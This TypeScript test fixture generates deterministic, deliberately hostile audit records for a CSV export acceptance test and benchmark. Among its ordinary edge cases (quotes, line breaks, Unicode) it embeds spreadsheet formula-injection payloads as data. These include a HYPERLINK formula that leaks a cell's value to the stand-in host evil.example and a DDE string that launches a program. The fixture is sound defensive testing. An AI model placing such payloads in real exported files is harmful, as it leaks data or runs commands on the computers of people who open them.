/**
 * Deterministic audit records for the export acceptance test and benchmark (FR-LOG-002): record `i` is a
 * pure function of `i`, so a checker can regenerate any record without keeping the others. Their shape is
 * realistic (ids, timestamps, tenants, request metadata) and hostile where it matters to a CSV writer:
 * quotes, commas, CR/LF inside values, non-ASCII text, emoji, and values that a spreadsheet would run as
 * formulas.
 */
import type { AuditRecord } from '../../shared/domain/audit';

/** 32-bit integer mix (a variant of splitmix/murmur finalisers): well-spread bits from a counter. */
function mix(x: number): number {
  let h = x >>> 0;
  h = Math.imul(h ^ (h >>> 16), 0x7feb352d);
  h = Math.imul(h ^ (h >>> 15), 0x846ca68b);
  return (h ^ (h >>> 16)) >>> 0;
}

const hex = (n: number, width: number): string => n.toString(16).padStart(width, '0').slice(-width);

function uuidFor(i: number, salt: number): string {
  const a = mix(i * 4 + salt);
  const b = mix(a ^ 0x9e3779b9);
  const c = mix(b + i);
  const d = mix(c ^ salt);
  return `${hex(a, 8)}-${hex(b >>> 16, 4)}-4${hex(b, 3)}-${(8 + (c & 3)).toString(16)}${hex(c >>> 4, 3)}-${hex(d, 8)}${hex(c >>> 16, 4)}`;
}

const TENANTS = Array.from({ length: 50 }, (_, t) => uuidFor(t, 7));
const ACTOR_TYPES = ['User', 'Operator', 'System', 'Anonymous'] as const;
const ACTIONS = ['user.invite', 'user.role.update', 'tenant.suspend', 'login', 'flag.set', 'apikey.create', 'session.revoke', 'user.delete', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1,2)', '-2+3', '@cmd', 'report.export'];
const USER_AGENTS: readonly (string | null)[] = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
  'curl/8.5.0',
  'cpctl/0.1 (node v20; "quoted", comma)',
  null,
  '=cmd|\' /C calc\'!A0',
  'Ünïcödé-Agent/1.0 日本語 😀',
];
const NOTES = ['', 'plain note', 'multi\r\nline\r\nnote', 'lf only\nnote', 'a "quoted" word, and a comma', "'leading apostrophe", '\tindented', 'emoji 👩‍👩‍👧 and é (e + U+0301: e\u0301)', 'Grüße aus München; 東京から'];

const BASE_MS = Date.UTC(2025, 0, 1);

export function auditRecordAt(i: number): AuditRecord {
  const r = mix(i);
  const tenant = r % 10 === 0 ? null : (TENANTS[r % TENANTS.length] ?? null);
  const actorType = ACTOR_TYPES[(r >>> 4) % ACTOR_TYPES.length]!;
  const action = ACTIONS[(r >>> 8) % ACTIONS.length]!;
  const ua = USER_AGENTS[(r >>> 12) % USER_AGENTS.length]!;
  const note = NOTES[(r >>> 16) % NOTES.length]!;
  const metadata: Record<string, unknown> = {
    ip: r % 7 === 0 ? `2001:db8::${hex(r, 4)}` : `203.0.113.${r & 0xff}`,
    userAgent: ua,
    requestId: uuidFor(i, 3),
    seq: i,
  };
  if (note !== '') metadata['note'] = note;
  if (r % 5 === 0) metadata['changes'] = { role: { from: 'User', to: 'Administrator' }, reason: 'promotion, "effective now"' };
  if (r % 11 === 0) metadata['requestId'] = null; // not a string: stays in the metadata JSON
  return {
    id: uuidFor(i, 1),
    // Increasing, 31 ms apart: 1M records span ~8.6 hours.
    timestamp: new Date(BASE_MS + i * 31).toISOString(),
    tenantId: tenant,
    actorId: r % 13 === 0 ? '@admin' : r % 17 === 0 ? '-system' : `user-${r % 997}`,
    actorType,
    action,
    resource: r % 3 === 0 ? `user:${uuidFor(i, 5)}` : r % 3 === 1 ? `flag:"dark,mode"\r\nv${i % 9}` : `tenant:${tenant ?? 'platform'}/settings`,
    outcome: r % 4 === 0 ? 'Failure' : 'Success',
    metadata,
  };
}

export async function* generateAuditRecords(count: number): AsyncGenerator<AuditRecord, void, undefined> {
  for (let i = 0; i < count; i++) yield auditRecordAt(i);
}
